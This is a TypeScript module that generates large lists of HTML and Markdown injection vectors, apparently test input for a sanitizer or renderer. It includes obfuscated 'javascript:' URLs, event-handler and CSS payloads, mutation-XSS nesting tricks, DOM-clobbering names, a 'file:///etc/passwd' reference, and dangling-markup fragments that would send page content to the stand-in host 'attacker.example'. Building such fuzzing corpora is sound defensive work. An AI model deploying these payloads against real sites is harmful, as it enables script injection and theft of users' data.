/** Where whatever got out would go to. */
export const hostileHost = "attacker.example";

const there = `https://${hostileHost}`;

/** What each vector tries: a mark on the page that shows it ran. */
const runs = (name: string) => `window.ran='${name}'`;

const elements = [
  ...["a", "abbr", "address", "area", "article", "audio", "b", "base", "bdo", "blockquote", "body", "br", "button"],
  ...["canvas", "center", "custom-element", "details", "dialog", "div", "em", "embed", "fieldset", "font", "form"],
  ...["frame", "frameset", "h1", "head", "html", "iframe", "image", "img", "input", "ins", "isindex", "keygen", "li"],
  ...["link", "map", "marquee", "math", "menu", "meta", "meter", "nobr", "noscript", "object", "ol", "option", "p"],
  ...["picture", "portal", "pre", "q", "script", "section", "select", "slot", "source", "span", "style", "summary"],
  ...["svg", "table", "tbody", "td", "template", "textarea", "title", "tr", "track", "ul", "video", "xmp", "xss"],
];

const handlers = [
  ...[
    "onload",
    "onerror",
    "onfocus",
    "onblur",
    "onclick",
    "ontoggle",
    "onmouseover",
    "onpointerenter",
    "onanimationend",
  ],
  ...["onanimationstart", "ontransitionend", "onbeforetoggle", "onscroll", "onwheel", "oncut", "onpaste", "onresize"],
  ...["onbegin", "onstart", "onfinish", "onpageshow", "onhashchange", "onbeforeinput", "onauxclick", "onsearch"],
  ...[
    "oncontentvisibilityautostatechange",
    "onscrollend",
    "onsecuritypolicyviolation",
    "ONLOAD",
    "onLoad",
    "xlink:onload",
  ],
];

/** Attributes that make a browser ask for something, or lead somewhere, and where each does. */
const addressed: [element: string, attribute: string, rest?: string][] = [
  ["a", "href"],
  ["a", "ping", `href="#x"`],
  ["a", "attributionsrc", `href="#x"`],
  ["a", "xlink:href"],
  ["area", "href"],
  ["img", "src"],
  ["img", "srcset"],
  ["img", "lowsrc"],
  ["img", "dynsrc"],
  ["img", "longdesc"],
  ["img", "attributionsrc"],
  ["image", "src"],
  ["video", "src", "autoplay"],
  ["video", "poster"],
  ["audio", "src", "autoplay"],
  ["source", "src"],
  ["source", "srcset"],
  ["track", "src", "default"],
  ["input", "src", `type="image"`],
  ["button", "formaction"],
  ["form", "action"],
  ["iframe", "src"],
  ["iframe", "srcdoc"],
  ["frame", "src"],
  ["object", "data"],
  ["object", "codebase"],
  ["embed", "src"],
  ["applet", "code"],
  ["bgsound", "src"],
  ["portal", "src"],
  ["fencedframe", "src"],
  ["link", "href", `rel="stylesheet"`],
  ["link", "href", `rel="prefetch"`],
  ["link", "href", `rel="preload" as="image"`],
  ["link", "href", `rel="dns-prefetch"`],
  ["link", "href", `rel="preconnect"`],
  ["link", "href", `rel="modulepreload"`],
  ["link", "href", `rel="icon"`],
  ["link", "href", `rel="manifest"`],
  ["link", "imagesrcset", `rel="preload" as="image"`],
  ["base", "href"],
  ["base", "target"],
  ["script", "src"],
  ["body", "background"],
  ["table", "background"],
  ["td", "background"],
  ["html", "manifest"],
  ["q", "cite"],
  ["blockquote", "cite"],
  ["del", "cite"],
  ["meta", "content", `http-equiv="refresh"`],
  ["meta", "content", `http-equiv="set-cookie"`],
  ["math", "href"],
  ["svg", "xlink:href"],
  ["image", "xlink:href"],
  ["use", "href"],
  ["set", "to", `attributeName="href"`],
  ["animate", "values", `attributeName="href"`],
];

/** The ways to write an address that runs or leads away. `@` stands for the host. */
const addresses = [
  `javascript:${runs("address")}`,
  `JaVaScRiPt:${runs("case")}`,
  `java\tscript:${runs("tab")}`,
  `java\nscript:${runs("line")}`,
  `\u0001javascript:${runs("control")}`,
  `\u00a0javascript:${runs("space")}`,
  `&#106;avascript:${runs("decimal")}`,
  `&#0000106avascript:${runs("zeroes")}`,
  `&#x6a;avascript:${runs("hexadecimal")}`,
  `javascript&colon;${runs("colon")}`,
  `java&Tab;script&colon;${runs("named")}`,
  `javascript://%0a${runs("comment")}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>parent.${runs("data")}</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload="${runs("svg data")}"/>`,
  `blob:${there}/x`,
  `filesystem:${there}/x`,
  `file:///etc/passwd`,
  `${there}/x`,
  `//${hostileHost}/x`,
  `\\\\${hostileHost}\\x`,
  `/\\${hostileHost}/x`,
  `0;url=${there}/x`,
  `<script>parent.${runs("srcdoc")}</script>`,
];

const styles = [
  `background:url(${there}/b)`,
  `background-image:\\75 rl(${there}/escaped)`,
  `background:u/**/rl(${there}/comment)`,
  `list-style-image:url("${there}/l")`,
  `content:url(${there}/c)`,
  `background:image-set("${there}/i" 1x)`,
  `-moz-binding:url(${there}/m)`,
  `behavior:url(${there}/h)`,
  `width:expression(${runs("expression")})`,
  `position:fixed;inset:0;z-index:9999;opacity:0`,
  `animation-name:x;animation-duration:1s`,
  `cursor:url(${there}/cur),auto`,
];

/** Names by which an element would stand in for something of the page. */
const names = [
  ...["main", "history", "heading-1", "body", "forms", "cookie", "location", "children", "attributes", "parentNode"],
  ...["getElementById", "__proto__", "constructor", "toString", "ran", "self", "top", "__next", "nextElementSibling"],
];

const image = `<img src=x onerror="${runs("image")}">`;

/** What stands around a harmless-looking inside, so that a second reading of the markup sees another. */
const surroundings: ((inside: string) => string)[] = [
  (x) => `<svg>${x}</svg>`,
  (x) => `<svg><style>${x}</style></svg>`,
  (x) => `<svg></p><style><a id="</style>${x}">`,
  (x) => `<svg><desc><table>${x}</table></desc></svg>`,
  (x) => `<svg><foreignObject>${x}</foreignObject></svg>`,
  (x) => `<svg><title><style>${x}</style></title></svg>`,
  (x) => `<math>${x}</math>`,
  (x) => `<math><mtext><table><mglyph><style>${x}</style></mglyph></table></mtext></math>`,
  (x) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${x.replaceAll('"', "&quot;")}">`,
  (x) => `<math><annotation-xml encoding="text/html">${x}</annotation-xml></math>`,
  (x) => `<form><math><mtext></form><form><mglyph><style></math>${x}`,
  (x) => `<math><mi><mglyph><svg><mtext><textarea>${x}</textarea></mtext></svg></mglyph></mi></math>`,
  (x) => `<noscript><p title="</noscript>${x}"></noscript>`,
  (x) => `<noscript>${x}</noscript>`,
  (x) => `<template>${x}</template>`,
  (x) => `<template shadowrootmode="open">${x}</template>`,
  (x) => `<textarea><p title="</textarea>${x}"></textarea>`,
  (x) => `<title><p title="</title>${x}"></title>`,
  (x) => `<style><p title="</style>${x}"></style>`,
  (x) => `<xmp><p title="</xmp>${x}"></xmp>`,
  (x) => `<iframe><p title="</iframe>${x}"></iframe>`,
  (x) => `<noembed><p title="</noembed>${x}"></noembed>`,
  (x) => `<select><option>${x}</option></select>`,
  (x) => `<select><iframe>${x}</iframe></select>`,
  (x) => `<table><caption>${x}</caption><tr>${x}</tr>${x}</table>`,
  (x) => `<b><p></b>${x}</p>`,
  (x) => `<p id="</p>${x}">`,
  (x) => `<!-->${x}-->`,
  (x) => `<!-- --!>${x}-->`,
  (x) => `<![CDATA[${x}]]>`,
  (x) => `<?xml ${x}?>`,
  (x) => `<!DOCTYPE x [<!ENTITY y "${x}">]>&y;`,
  (x) => `<a href="x">a<a href="y">${x}</a></a>`,
  (x) => `<pre><code class="language-html">${x}</code></pre>`,
  (x) => `<details open>${x}</details>`,
  (x) => `<ul><li><div><blockquote>${x}</blockquote></div></li></ul>`,
  (x) => `"'>${x}`,
  (x) => `\u0000<\u0000${x.slice(1)}`,
  (x) => `<${x}`,
  (x) => `<div\u000c${x}`,
];

/** Markup that is never closed, and takes what follows with it. */
const dangling = [
  `<img src="${there}/?`,
  `<img src='${there}/?`,
  `<a href="${there}/?`,
  `<a title='`,
  `<base target="`,
  `<form action="${there}"><textarea name="x">`,
  `<button form="x" formaction="${there}">`,
  `<input type="hidden" name="x" value='`,
  `<option>`,
  `<select>`,
  `<iframe srcdoc="`,
  `<meta http-equiv="refresh" content='0;url=${there}/?`,
  `<style>@import '${there}/?`,
  `<textarea>`,
  `<plaintext>`,
  `<!--`,
  `<script>`,
  `<title>`,
  `<svg><style>`,
];

/** Each of these ends what it begins, so that many can stand in one text. */
export const closedVectors: readonly string[] = [
  ...elements.flatMap((element) => [
    `<${element} ${handlers.map((handler) => `${handler}="${runs(`${element} ${handler}`)}"`).join(" ")}>x</${element}>`,
    `<${element} autofocus tabindex="1" contenteditable onfocus=${runs(`${element}-focus`)}>x</${element}>`,
    `<${element}/onload=${runs(`${element}-slash`)}/onerror=${runs(`${element}-slash`)}>x</${element}>`,
    `<${element} style="${styles.join(";")}" class="blocked-media sheet shown-image" data-image="${there}/i" data-passage="1" data-shared>x</${element}>`,
    `<${element} id="main" name="main" slot="x" is="x" part="x" role="alert" aria-label="Approve" nonce="x" ping="${there}">x</${element}>`,
    `<svg><${element} href="javascript:${runs(element)}" xlink:href="${there}" onload="${runs(element)}">x</${element}></svg>`,
  ]),
  ...addressed.flatMap(([element, attribute, rest = ""]) =>
    addresses.flatMap((address) => [
      `<${element} ${rest} ${attribute}="${address.replaceAll('"', "&quot;")}">x</${element}>`,
      `<${element.toUpperCase()} ${rest} ${attribute.toUpperCase()}='${address.replaceAll("'", "&#39;")}'>x</${element}>`,
    ]),
  ),
  ...styles.flatMap((style) => [
    `<p style="${style.replaceAll('"', "&quot;")}">x</p>`,
    `<style>p { ${style} }</style>`,
    `<svg><style>p { ${style} }</style></svg>`,
  ]),
  ...names.flatMap((name) => [
    `<a id="${name}"></a><a id="${name}" name="${name}" href="#${name}">x</a>`,
    `<form id="${name}" name="${name}"><input name="${name}" id="${name}"></form>`,
    `<h2 id="${name}">${name}</h2>`,
  ]),
  ...surroundings.flatMap((around) => [
    around(image),
    around(`<script>${runs("script")}</script>`),
    around(`<a href="javascript:${runs("link")}">x</a>`),
    ...surroundings.map((within) => around(within(image))),
  ]),
];

/** The same with those that end nothing, one text each. */
export const hostileVectors: readonly string[] = [
  ...closedVectors,
  ...dangling.flatMap((open) => [open, `${open}\n\n${image}`, `<div>${open}</div><p>${image}`]),
  ...addresses.flatMap((address) => [`[x](${address})`, `![x](${address})`, `<${address}>`, `[x]: ${address}\n\n[x]`]),
  ...surroundings.map((around) => `- > **${around(image)}**`),
  ...surroundings.map((around) => `| a |\n|-|\n| ${around(image)} |`),
];
